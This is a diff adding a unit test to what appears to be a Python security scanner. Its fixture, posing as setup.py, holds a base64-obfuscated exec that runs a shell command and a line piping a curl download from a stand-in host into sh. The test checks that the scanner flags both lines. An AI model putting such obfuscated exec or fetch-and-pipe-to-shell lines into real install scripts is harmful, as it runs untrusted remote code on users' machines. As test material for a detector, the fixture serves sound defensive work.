@@ -133,3 +133,11 @@ def test_fixture_counts() -> None:
                         counts[code][kind] += len(lines)
     for code, c in counts.items():
         assert c["ruleid"] >= 3 and c["ok"] >= 2, (code, c)
+
+
+def test_reduced_scan_when_libcst_cannot_parse(pack: RuleSet) -> None:
+    code = ('import base64, os\nprint "python 2"\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))\n'
+            'os.system("curl -s https://example.com/x | sh")\n')
+    result = scan(pack, code, path="setup.py")
+    rules = {(f.rule, f.location.line) for f in result.findings if f.fallback}
+    assert {("DS101", 3), ("DS104", 4), ("DS105", 4)} <= rules
